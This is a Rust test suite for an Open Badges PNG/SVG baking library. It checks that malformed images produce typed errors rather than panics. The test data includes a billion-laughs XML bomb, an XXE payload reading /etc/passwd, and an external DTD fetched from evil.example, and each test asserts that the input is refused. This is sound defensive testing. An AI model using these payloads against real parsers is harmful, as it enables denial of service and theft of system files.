//! Malformed images give typed errors, never panics: truncated chunks, bad
//! CRCs, huge declared lengths, two different badges, XML bombs, external
//! entities, DOCTYPE subsets, undeclared entities, size budgets.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod bake_support;

use bake_support::*;
use openbadges::bake::{bake, extract, extract_png, extract_svg, BakeError, Location};
use openbadges::limits::{Limit, LimitExceeded, Limits};

fn baked_png() -> Vec<u8> {
    bake(&png(), &payloads()[3].1, &L).unwrap()
}

/// Byte offsets of each chunk of a PNG.
fn offsets(png: &[u8]) -> Vec<usize> {
    let mut out = Vec::new();
    let mut i = 8;
    for (_, data) in png_chunks(png) {
        out.push(i);
        i += 12 + data.len();
    }
    out
}

#[test]
fn every_truncation_is_a_typed_error() {
    let full = baked_png();
    for n in 0..full.len() {
        let err = extract_png(&full[..n], &L).unwrap_err();
        let ok = match n {
            0..=7 => err == BakeError::PngSignature,
            _ => matches!(err, BakeError::PngTruncated { .. }),
        };
        assert!(ok, "prefix of {n} bytes: {err:?}");
    }
    // Bytes after IEND are ignored, as PNG decoders do.
    let mut trailing = full.clone();
    trailing.extend_from_slice(b"garbage");
    assert!(extract_png(&trailing, &L).unwrap().is_some());
}

#[test]
fn a_bad_crc_is_refused_in_any_chunk() {
    let full = baked_png();
    let chunks = png_chunks(&full);
    for (index, offset) in offsets(&full).into_iter().enumerate() {
        // Flip a bit of the CRC (last 4 bytes of the chunk).
        let crc_at = offset + 8 + chunks[index].1.len();
        let mut bad = full.clone();
        bad[crc_at] ^= 0x01;
        let err = extract_png(&bad, &L).unwrap_err();
        assert_eq!(
            err,
            BakeError::PngBadCrc {
                index,
                offset,
                chunk_type: String::from_utf8(chunks[index].0.to_vec()).unwrap()
            }
        );
        // Baking into it is refused the same way.
        assert_eq!(bake(&bad, &payloads()[0].1, &L).unwrap_err(), err);
    }
    // A flipped data byte is caught too (the iTXt badge chunk itself).
    let mut bad = full.clone();
    bad[offsets(&full)[1] + 20] ^= 0x20;
    assert!(matches!(
        extract_png(&bad, &L),
        Err(BakeError::PngBadCrc { index: 1, .. })
    ));
}

#[test]
fn huge_declared_lengths_do_not_allocate() {
    let full = baked_png();
    let at = offsets(&full)[1];
    for declared in [u32::MAX, 0x8000_0000, 0x7fff_ffff, 9 * 1024 * 1024] {
        let mut bad = full.clone();
        bad[at..at + 4].copy_from_slice(&declared.to_be_bytes());
        let err = extract_png(&bad, &L).unwrap_err();
        assert_eq!(
            err,
            BakeError::PngChunkTooLong {
                index: 1,
                offset: at,
                declared: u64::from(declared),
                max: 8 * 1024 * 1024
            },
            "{declared:#x}"
        );
    }
    // Under the limit but past the end of the file: truncated.
    let mut bad = full.clone();
    bad[at..at + 4].copy_from_slice(&1_000_000u32.to_be_bytes());
    assert!(matches!(
        extract_png(&bad, &L),
        Err(BakeError::PngTruncated { index: 1, .. })
    ));
}

#[test]
fn structure_of_the_png() {
    // First chunk must be IHDR.
    let full = baked_png();
    let mut no_ihdr = full[..8].to_vec();
    no_ihdr.extend_from_slice(&full[8 + 25..]);
    assert!(matches!(
        extract_png(&no_ihdr, &L),
        Err(BakeError::PngMalformed { index: 0, what, .. }) if what.contains("IHDR")
    ));
    // No IEND.
    let chunks = png_chunks(&full);
    let without_iend = &full[..full.len() - 12];
    assert_eq!(chunks.last().unwrap().0, *b"IEND");
    assert!(matches!(
        extract_png(without_iend, &L),
        Err(BakeError::PngTruncated { what, .. }) if what.contains("IEND")
    ));
}

#[test]
fn two_different_badge_chunks_conflict() {
    let once = baked_png();
    // Splice a second, different badge chunk (an OB 2.0 tEXt URL) before IEND.
    let ob2 = bake(&png(), &payloads()[2].1, &L).unwrap();
    let second = {
        let at = offsets(&ob2)[1];
        let len = 12 + png_chunks(&ob2)[1].1.len();
        ob2[at..at + len].to_vec()
    };
    let iend = once.len() - 12;
    let mut twice = once[..iend].to_vec();
    twice.extend_from_slice(&second);
    twice.extend_from_slice(&once[iend..]);
    let err = extract_png(&twice, &L).unwrap_err();
    let n = png_chunks(&twice).len();
    assert_eq!(
        err,
        BakeError::Conflict {
            first: Location::PngChunk {
                index: 1,
                offset: 33
            },
            second: Location::PngChunk {
                index: n - 2,
                offset: iend
            }
        }
    );
    // The same chunk twice is not a conflict.
    let first = {
        let at = offsets(&once)[1];
        once[at..at + 12 + png_chunks(&once)[1].1.len()].to_vec()
    };
    let mut dup = once[..iend].to_vec();
    dup.extend_from_slice(&first);
    dup.extend_from_slice(&once[iend..]);
    assert_eq!(
        extract_png(&dup, &L).unwrap(),
        Some(payloads()[3].1.clone())
    );
}

#[test]
fn image_size_budget() {
    let mut tight = Limits::DEFAULT;
    tight.max_image_bytes = 100;
    for image in [png(), svg()] {
        assert!(matches!(
            extract(&image, &tight),
            Err(BakeError::Limit(LimitExceeded {
                limit: Limit::ImageBytes,
                max: 100,
                ..
            }))
        ));
    }
    let mut tight = Limits::DEFAULT;
    tight.max_chunk_bytes = 64;
    assert!(matches!(
        bake(&png(), &payloads()[3].1, &tight),
        Err(BakeError::PngChunkTooLong { .. } | BakeError::Limit(_))
    ));
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
<openbadges:assertion verify="https://e.org/a">&lol9;</openbadges:assertion></svg>"#;

#[test]
fn xml_bombs_and_external_entities_are_refused() {
    assert_eq!(
        extract_svg(BILLION_LAUGHS.as_bytes(), &L),
        Err(BakeError::XmlDtd { offset: 22 })
    );
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>&xxe;</openbadges:assertion></svg>"#;
    assert_eq!(
        extract_svg(xxe.as_bytes(), &L),
        Err(BakeError::XmlDtd { offset: 21 })
    );
    let parameter =
        r#"<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg/>"#;
    assert_eq!(
        extract_svg(parameter.as_bytes(), &L),
        Err(BakeError::XmlDtd { offset: 0 })
    );
    // Without a DTD, a reference to an undeclared entity is an error too.
    let undeclared = r#"<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>&xxe;</openbadges:assertion></svg>"#;
    assert!(matches!(
        extract_svg(undeclared.as_bytes(), &L),
        Err(BakeError::XmlEntity { name, .. }) if name == "xxe"
    ));
    // Baking into them is refused the same way.
    assert!(matches!(
        bake(BILLION_LAUGHS.as_bytes(), &payloads()[0].1, &L),
        Err(BakeError::XmlDtd { .. })
    ));
}

#[test]
fn svg_text_budget() {
    let big = format!(
        r#"<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential>{}</openbadges:credential></svg>"#,
        "x".repeat(3 * 1024 * 1024)
    );
    assert!(matches!(
        extract_svg(big.as_bytes(), &L),
        Err(BakeError::Limit(LimitExceeded {
            limit: Limit::BakedPayloadBytes,
            ..
        }))
    ));
}

#[test]
fn every_truncated_svg_is_a_typed_error() {
    let full = bake(&svg(), &payloads()[0].1, &L).unwrap();
    for n in 0..full.len() {
        // Never a panic; a cut document is an error (or, cut in the
        // trailing newline, the whole badge).
        if let Ok(p) = extract_svg(&full[..n], &L) {
            assert!(n >= full.len() - 1 && p.is_some(), "prefix {n}");
        }
    }
}

#[test]
fn neither_png_nor_svg() {
    assert_eq!(extract(b"{\"a\":1}", &L), Err(BakeError::NotAnImage));
    assert_eq!(extract(b"", &L), Err(BakeError::NotAnImage));
    assert!(matches!(
        extract(b"<html><body/></html>", &L),
        Err(BakeError::NotSvg { root }) if root == "html"
    ));
}
